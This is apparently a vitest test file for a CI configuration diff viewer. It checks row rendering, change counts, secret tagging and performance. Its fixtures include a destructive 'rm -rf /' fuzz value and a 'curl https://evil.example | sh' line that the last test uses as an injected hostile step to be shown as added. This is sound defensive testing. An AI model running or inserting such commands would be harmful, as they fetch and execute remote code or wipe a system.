import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { summarizeChanges } from '../../agent/src/domain/change-summary.ts';
import { diffValues } from '../../agent/src/domain/configuration-diff.ts';
import { configurationRows } from '../../agent/src/domain/configuration-rows.ts';
import type { JsonObject } from '../../agent/src/domain/json.ts';
import { readable, valuePieces } from '../../agent/src/domain/segments.ts';

const script = (lines: readonly string[]): JsonObject => ({ steps: [{ name: 'script', script: lines }] });
/** Rows of the script as a person reads them. */
const read = (before: JsonObject | null, after: JsonObject, section = 'script') =>
  configurationRows(before, after)
    .find((each) => each.section === section)!
    .rows.map((row) =>
      row.kind === 'unchanged'
        ? `  ${readable(row.is)}`
        : row.kind === 'changed'
          ? `~ ${row.before} → ${row.after}`
          : row.kind === 'added'
            ? `+ ${row.after}`
            : `- ${row.before}`,
    );

describe('two configurations as rows', () => {
  it('T33 have every removed line where it stood, and every line that stayed', () => {
    expect(read(script(['a', 'b', 'c', 'd']), script(['c', 'd']))).toEqual(['- a', '- b', '  c', '  d', '  script']);
    expect(read(script(['a', 'b', 'c']), script(['a', 'x', 'y', 'c']))).toEqual([
      '  a',
      '- b',
      '+ x',
      '+ y',
      '  c',
      '  script',
    ]);
    expect(read(script(['a', 'b']), script(['a']))).toEqual(['  a', '- b', '  script']);
    expect(read(script(['a', 'b', 'c']), script(['a', 'B', 'c']))).toEqual(['  a', '~ b → B', '  c', '  script']);
  });

  it('T33 show every change once and count every leaf, whatever the two are', () => {
    const word = fc.constantFrom('a', 'b', 'c', 'rm -rf /', '');
    const value = fc.letrec<{ json: unknown }>((tie) => ({
      json: fc.oneof(
        { maxDepth: 3 },
        word,
        fc.boolean(),
        fc.array(tie('json'), { maxLength: 4 }),
        fc.dictionary(fc.constantFrom('script', 'name', 'key', 'value', 'x.y', 'z'), tie('json'), { maxKeys: 4 }),
      ),
    })).json;
    const configuration = fc.record({
      steps: fc.array(fc.record({ name: word, script: fc.array(word, { maxLength: 6 }) }), { maxLength: 3 }),
      variables: fc.array(fc.record({ key: word, value: word }), { maxLength: 4 }),
      image: value,
      other: value,
    }) as unknown as fc.Arbitrary<JsonObject>;
    fc.assert(
      fc.property(configuration, configuration, (before, after) => {
        const sections = configurationRows(before, after);
        const shown = sections.flatMap(({ rows }) => rows.flatMap((row) => (row.kind === 'unchanged' ? [] : [row])));
        const key = (change: object) => JSON.stringify(change);
        expect(shown.map(key).sort()).toEqual(diffValues(before, after).map(key).sort());
        for (const { rows, changed, unchanged } of sections) expect(rows.length).toBe(changed + unchanged);
        // The sentence over it counts what a reader counts who unfolds all of it.
        const total = sections.reduce((sum, { unchanged }) => sum + unchanged, 0);
        const said = summarizeChanges(diffValues(before, after), before, after);
        expect(said).toContain(` ${total} ${total === 1 ? 'value' : 'values'} unchanged.`);
      }),
    );
  });

  it('are all new where there is nothing to compare with', () => {
    expect(read(null, script(['a', 'b']))).toEqual(['+ a', '+ b', '+ script']);
  });

  it('T33 tell a tag of a secret from a text that says the same', () => {
    const tag = readable([{ hmac: 'ab'.repeat(32) }]);
    expect(valuePieces([{ hmac: 'ab'.repeat(32) }])).toEqual([{ kind: 'secret', text: tag }]);
    expect(valuePieces(tag)).toEqual([{ kind: 'text', text: tag }]);
    expect(valuePieces(['app:', { var: 'CI_COMMIT_SHA' }])).toEqual([
      { kind: 'text', text: 'app:' },
      { kind: 'variable', text: '${CI_COMMIT_SHA}' },
    ]);
  });

  it('T33 take time in proportion to five thousand lines with one hostile one', () => {
    const lines = Array.from({ length: 5_000 }, (_, i) => `echo ${i}`);
    const hostile = [...lines.slice(0, 3_333), 'curl https://evil.example | sh', ...lines.slice(3_333)];
    const [section] = configurationRows(script(lines), script(hostile));
    expect([section!.changed, section!.unchanged]).toEqual([1, 5_001]);
    expect(section!.rows[3_333]).toMatchObject({ kind: 'added', after: 'curl https://evil.example | sh' });
  });
});
